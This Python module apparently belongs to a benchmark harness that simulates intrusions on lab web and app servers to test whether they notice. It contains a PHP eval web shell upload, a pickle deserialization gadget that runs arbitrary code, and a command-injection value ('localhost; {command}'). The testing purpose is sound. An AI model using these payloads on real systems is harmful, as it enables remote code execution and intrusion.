# SPDX-License-Identifier: GPL-2.0
"""What all attacks have in common, and the holes of the servers by which they come in."""

import base64
import pathlib
import pickle
import threading
import urllib.parse

from bench.clients import web
from bench.net import INTRUDER, Catcher
from bench.officer import now
from bench.servers.nginx import ROOT as WEB

# What part of the data has to be gone, stolen or spoiled for the damage to be done.
LOSS = 0.25
# What a shell of the intruder's has to say; the commands that make it say so do not have it in them.
PROOF = b"shell-42"
PROVE = b"echo shell-$((41 + 1)); id\n"

IMPLANT = pathlib.Path("/mnt/share/implant.so")
IMPLANT_PORT = 4500
MARK = pathlib.Path("/tmp/implant.mark")


class Attack:
    """An attack: a foothold that the intruder has already, what is done with it, and the damage.

    `run` may raise what it likes: an intruder who is refused. Whether damage was done is seen from outside, by
    `damaged`, and is the only thing that counts. `cleanup` makes it as it was.
    """

    name = ""
    # Those that are attacked, whose cells have to notice.
    servers = ()
    # Seconds after which the intruder has had enough.
    patience = 25
    # Whether it could be told from the self of the server at all; if not, what would help.
    help = ""
    # Whether benign users do not notice even when it succeeds: it may run beside them.
    is_quiet = False
    # Whether the servers have to be started anew when it has succeeded.
    spoils = False

    def __init__(self, world):
        self.world = world
        self.began = now()
        self.loot = b""
        self.catchers = []

    def setup(self):
        """The foothold."""

    def run(self):
        """What the intruder does."""
        raise NotImplementedError

    def damaged(self):
        """Whether the damage is done."""
        raise NotImplementedError

    def cleanup(self):
        """As it was before."""

    def begin(self):
        """From here on the clock runs: what went before harms nobody."""
        self.began = now()

    def end(self):
        """Closes what was opened, and cleans up."""
        for catcher in self.catchers:
            catcher.close()
        self.cleanup()

    # The tools of an intruder.

    def listen(self, port, *more, **most):
        """Somewhere to send things to."""
        catcher = Catcher(port, *more, **most)
        self.catchers.append(catcher)
        return catcher

    def secret(self, name):
        """The word that stands nowhere else."""
        return self.world.secrets[name].encode()

    @staticmethod
    def aside(function, *args, **more):
        """Does something that answers late or never."""
        def body():
            try:
                function(*args, **more)
            except Exception:  # pylint: disable=broad-except
                pass  # It is seen from outside whether it had an effect.

        threading.Thread(target=body, daemon=True).start()


class ByPhp(Attack):
    """Comes by a file upload that takes PHP, and a page that does what it is told."""

    servers = ("php", "nginx")
    shell = "thumbs.php"

    def setup(self):
        code, _ = web.upload("/upload.php", self.shell, b"<?php @eval($_POST['c']);", source=INTRUDER)
        if code != 200:
            raise ConnectionError(f"no upload: {code}")

    def php(self, code, seconds=20):
        """Has PHP run something; what it prints."""
        return web.post(f"/uploads/{self.shell}", {"c": code}, source=INTRUDER, seconds=seconds)[1]

    def cleanup(self):
        pathlib.Path(f"{WEB}/uploads/{self.shell}").unlink(missing_ok=True)


class Bomb:
    """A pickle that is code: what the code leaves in `result` is what the pickle becomes."""

    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return eval, ("(lambda room: [exec(%r, room), room.get('result')][1])({})" % self.code,)


class ByApp(Attack):
    """Comes by the daemon's pickles, its eval and its shell."""

    servers = ("app",)

    @staticmethod
    def python(code, seconds=20):
        """Has the daemon run Python, in its own process; what it leaves in `result`."""
        return web.post("/session", base64.b64encode(pickle.dumps(Bomb(code))), 8000, INTRUDER, seconds)[1]

    @staticmethod
    def shell(command, seconds=20):
        """Has the daemon's shell run something; what it prints."""
        return web.get("/lookup?host=" + urllib.parse.quote(f"localhost; {command}"), 8000, INTRUDER, seconds)[1]
